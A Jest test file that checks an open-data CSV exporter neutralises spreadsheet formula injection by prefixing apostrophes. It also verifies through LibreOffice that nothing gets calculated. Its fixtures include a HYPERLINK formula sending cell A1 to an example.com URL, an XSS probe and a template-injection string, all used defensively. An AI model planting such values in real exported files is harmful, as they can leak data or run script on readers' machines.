import { describe, expect, it } from '@jest/globals';
import { read } from 'xlsx';
import { z } from 'zod';

import { evaluate } from '../../../src/evaluate/evaluate.ts';
import { parseFormFile } from '../../../src/forms/formFile.ts';
import type { Submission } from '../../../src/forms/submission.ts';
import { SCHEME, submission } from '../../evaluate/submission.ts';
import { savedByLibreOffice } from '../../read/libreOffice.ts';
import { itWhole } from '../../shared/whole.ts';
import { bytesOf, openData, type Row, rowsOf, textOf, unprotected } from './opened.ts';

/** Texts that a spreadsheet, a browser or a template would act upon. */
const FORMULAS = [
  '=HYPERLINK("https://example.com/?"&A1,"市民の声")',
  '=1+1',
  '+81-96-000-0000',
  '-2+3',
  '@SUM(1,2)',
  '＝１＋１',
  '＋増加',
  '－減少',
  '＠担当',
  '\t=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u200b=1+1',
  '　－字下げ',
  "'=1+1",
] as const;
const TEXTS = [
  '<script>alert(1)</script>',
  '{{constructor}}',
  'カンマ,と"引用符"と\n改行',
  '"',
  ';',
  '—',
  '▲37万人',
  '1-2',
  '髙橋﨑𠮷',
  // Honest values: nothing would be calculated.
  '－37',
  '-37.5',
  '＋１２％',
  '－',
] as const;

/** One indicator with one course of action for each text. */
function submissionOf(texts: readonly string[]): Submission {
  return {
    ...submission([{ target: ['—', '20'], actual: ['—', '-18'] }]),
    bullets: texts.map((value, index) => ({
      goal: 1,
      kind: 'course',
      tags: [],
      text: { value, place: { sheet: '課題・方向性', cell: `F${index + 4}` } },
    })),
  };
}

describe('a text of the open data', () => {
  const facts = submissionOf([...FORMULAS, ...TEXTS]);
  const artifacts = openData(evaluate(facts, SCHEME));
  const cells = rowsOf(artifacts, 'texts').map((row: Row) => row['本文'] ?? '');

  it('gets an apostrophe where a spreadsheet would calculate it', () => {
    expect(cells.slice(0, FORMULAS.length)).toEqual(FORMULAS.map((text) => `'${text.trim()}`));
  });

  it('is otherwise as it was written, in one line', () => {
    expect(cells.slice(FORMULAS.length)).toEqual(TEXTS.map((text) => text.replace('\n', '')));
  });

  it('is got back by taking the apostrophe off', () => {
    expect(cells.map(unprotected)).toEqual(
      [...FORMULAS, ...TEXTS].map((text) => text.trim().replace('\n', '')),
    );
  });

  it('is a name in one line where it is a name', () => {
    const indicators = facts.indicators.map((indicator) => ({
      ...indicator,
      name: { ...indicator.name, value: '就業者数\n（新規）' },
      unit: { ...indicator.unit, value: 'CO2\neq' },
    }));
    const [row] = rowsOf(openData(evaluate({ ...facts, indicators }, SCHEME)), 'indicators');
    expect(row).toMatchObject({ 指標名: '就業者数（新規）', 単位: 'CO2 eq' });
  });

  it('is protected among the codes as it is in the cells', () => {
    const words = { ...SCHEME.words, notAchieved: { label: '－減', mark: '×' } };
    const made = openData(evaluate(submissionOf([]), { ...SCHEME, words }));
    expect(rowsOf(made, 'indicators').map((row) => row['判定'])).toContain("'－減");
    const codes = rowsOf(made, 'codes').filter(
      (row) => row['ファイル'] === 'indicators.csv' && row['列名'] === 'judgement',
    );
    expect(codes.map((row) => row['値'])).toEqual(['達成', "'－減", '途中', '判定不能', '終了']);
  });

  it('does not turn a number into a text', () => {
    const rows = rowsOf(artifacts, 'indicators');
    expect(rows.map((row) => row['値'])).toEqual(['', '', '20', '-18']);
  });

  it('is a plain string of JSON', () => {
    const { value } = parseFormFile(textOf(artifacts, 'data/evaluation.json'), 'evaluation.json');
    expect(value?.form.value).toMatchObject({ submission: { bullets: facts.bullets } });
  });
});

/** The options of LibreOffice's CSV import: comma, quote, UTF-8; formulas are calculated, which nobody should ask for. */
const CSV = {
  ending: 'csv',
  filter: 'CSV:44,34,76,1,,0,false,false,false,false,false,-1,true',
};

const Sheet = z.record(
  z.string(),
  z.object({ t: z.string(), w: z.string(), f: z.string().optional() }),
);

describe('LibreOffice', () => {
  itWhole('shows every text in Japanese and calculates none, even when it is told to', () => {
    const artifacts = openData(evaluate(submissionOf([...FORMULAS, ...TEXTS]), SCHEME));
    const saved = savedByLibreOffice(bytesOf(artifacts, 'data/texts.csv'), 'xlsx', CSV);
    const book = read(saved, { cellFormula: true });
    const { '!ref': _size, '!margins': _margins, ...sheet } = book.Sheets['book'] ?? {};
    const cells = Object.entries(Sheet.parse(sheet));
    const columnOf = (head: string): readonly string[] => {
      const letter = cells.find(([, { w }]) => w === head)?.[0].replace('1', '');
      return cells
        .filter(([name]) => name.replace(/\d+$/u, '') === letter)
        .map(([, { t, w }]) => `${t} ${w}`);
    };
    // A number alone may be one.
    const expected = rowsOf(artifacts, 'texts').map(({ 本文: text = '' }) =>
      /^-?[\d.]+$/u.test(text) ? `n ${text}` : `s ${text}`,
    );
    expect(columnOf('text')).toEqual(['s text', ...expected]);
    expect(columnOf('organization_name')).toEqual([
      's organization_name',
      ...expected.map(() => 's 見本市'),
    ]);
    expect(columnOf('number')).toEqual([
      's number',
      ...expected.map((_, index) => `n ${index + 1}`),
    ]);
    expect(cells.filter(([, { f }]) => f !== undefined)).toEqual([]);
  });
});
